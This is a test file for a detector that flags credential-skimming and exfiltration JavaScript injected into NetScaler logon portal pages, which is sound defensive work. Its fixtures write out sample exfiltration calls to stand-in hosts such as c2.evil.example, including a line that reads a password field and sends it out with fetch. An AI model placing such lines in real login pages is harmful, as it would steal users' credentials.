import { describe, expect, it } from 'vitest';
import { memoryTree } from './artefact-model.js';
import { detectPortalExfil } from './portal-js-rule.js';

const logon = '/var/netscaler/logon/LogonPoint/custom/';

describe('detectPortalExfil (R19)', () => {
  it('reports each portal_exfil pattern as REVIEW with line and excerpt', async () => {
    const js = [
      'var a = 1;',
      'fetch("https://collect.evil.example/c?d=" + data);',
      'navigator.sendBeacon(u, d);',
      'new Image().src = "//img.evil.example/p.gif?" + x;',
      'var ws = new WebSocket("wss://ws.evil.example/s");',
      'var es = new EventSource(u);',
      'navigator.clipboard.writeText(x);',
      'parent.postMessage(x, "*");',
      'var u = `https://t.evil.example/${x}`;',
      'var r = new XMLHttpRequest(); r.open("POST", "https://x.evil.example/p");',
      'window.location.href = "https://phish.evil.example/";',
    ].join('\n');
    const html = '<html><script src="https://cdn.evil.example/k.js"></script><script src=data:text/javascript,alert(1)></script></html>';
    const tree = memoryTree('ns', [
      { path: `${logon}script.js`, content: js },
      { path: `${logon}index.html`, content: html },
    ]);
    const found = await detectPortalExfil(tree);
    expect(found.every((f) => f.verdict === 'REVIEW' && f.ruleId === 'NS-R19')).toBe(true);
    const lines = found.filter((f) => f.path.endsWith('script.js')).map((f) => f.line).sort((a, b) => (a ?? 0) - (b ?? 0));
    expect(lines).toEqual([2, 3, 4, 5, 6, 7, 8, 9, 10, 11]);
    expect(found.filter((f) => f.path.endsWith('index.html'))).toHaveLength(2);
    const fetchHit = found.find((f) => f.line === 2);
    expect(fetchHit).toMatchObject({ confidence: 'medium', offset: js.indexOf('fetch') });
    expect(fetchHit?.rationale).toContain('https://collect.evil.example/c?d=');
    expect(found.find((f) => f.rationale.startsWith('postMessage'))?.confidence).toBe('low');
  });

  it('skips allowlisted hosts (and their subdomains), other extensions and paths outside the portal', async () => {
    const tree = memoryTree('ns', [
      { path: `${logon}a.js`, content: 'fetch("https://login.idp.example/x"); fetch("https://cdn.example.net/y")' },
      { path: `${logon}a.php`, content: 'fetch("https://evil.example/x")' },
      { path: '/var/netscaler/gui/admin_ui/a.js', content: 'fetch("https://evil.example/x")' },
      { path: '/var/tmp/a.js', content: 'fetch("https://evil.example/x")' },
      { path: `${logon}plain.js`, content: 'function login() { document.forms[0].submit(); }' },
    ]);
    expect(await detectPortalExfil(tree, { allowHosts: ['idp.example', '*.cdn.example.net', 'cdn.example.net'] })).toEqual([]);
    expect(await detectPortalExfil(tree, { allowHosts: ['idp.example'] })).toHaveLength(1);
  });

  it('escalates to COMPROMISE when the file handles passwords or changed after `since`', async () => {
    const steal = 'var p = document.getElementById("passwd").value; fetch("https://c2.evil.example/?p=" + p);';
    const tree = memoryTree('ns', [
      { path: `${logon}steal.js`, content: steal },
      { path: `${logon}recent.js`, content: 'fetch("https://c2.evil.example/x")', mtime: new Date('2025-07-01T00:00:00Z') },
      { path: `${logon}old.js`, content: 'fetch("https://c2.evil.example/x")', mtime: new Date('2025-01-01T00:00:00Z') },
      { path: `${logon}weak.js`, content: 'x.type = "password"; parent.postMessage(x.value, "*");', mtime: new Date('2025-01-01T00:00:00Z') },
    ]);
    const found = await detectPortalExfil(tree, { since: new Date('2025-05-01T00:00:00Z') });
    const byPath = Object.fromEntries(found.map((f) => [f.path.slice(logon.length), `${f.verdict}/${f.confidence}`]));
    expect(byPath).toEqual({ 'steal.js': 'COMPROMISE/high', 'recent.js': 'COMPROMISE/high', 'old.js': 'REVIEW/medium', 'weak.js': 'REVIEW/low' });
    expect(found.find((f) => f.path.endsWith('steal.js'))?.rationale).toMatch(/password/);
  });

  it('reports URLs in theme JSON and plugins loaded from URLs in LogonPoint XML', async () => {
    const tree = memoryTree('ns', [
      { path: '/var/netscaler/logon/themes/Custom/strings.en.json', content: '{\n "logo": "https://evil.example/l.png"\n}' },
      { path: '/var/netscaler/logon/LogonPoint/plugins.xml', content: '<plugins>\n<plugin name="x" src="http://evil.example/p.js"/>\n</plugins>' },
    ]);
    const found = await detectPortalExfil(tree);
    expect(found.map((f) => [f.path.split('/').pop(), f.line])).toEqual([
      ['strings.en.json', 2],
      ['plugins.xml', 2],
    ]);
  });

  it('groups >= 20 portal files changed within 30 s into one theme-rewrite finding', async () => {
    const base = Date.parse('2025-07-01T03:00:00Z');
    const files = [
      ...Array.from({ length: 21 }, (_, i) => ({ path: `/var/netscaler/logon/themes/X/f${i}.css`, content: 'a{}', mtime: new Date(base + i * 1000) })),
      ...Array.from({ length: 19 }, (_, i) => ({ path: `/var/vpn/themes/Y/g${i}.css`, content: 'a{}', mtime: new Date(base + 3_600_000 + i * 1000) })),
      ...Array.from({ length: 25 }, (_, i) => ({ path: `/var/vpn/themes/Z/h${i}.css`, content: 'a{}', mtime: new Date(base + 7_200_000 + i * 2000) })),
    ];
    const found = await detectPortalExfil(memoryTree('ns', files), { since: new Date(base - 1) });
    expect(found).toHaveLength(1);
    expect(found[0]).toMatchObject({ title: expect.stringMatching(/theme rewrite/i), verdict: 'REVIEW', confidence: 'medium', path: '/var/netscaler/logon/themes/X/', time: new Date(base) });
    expect(found[0]?.rationale).toMatch(/^21 portal files/);
    expect(found[0]?.excerpt).toMatch(/and 1 more$/);
  });
});
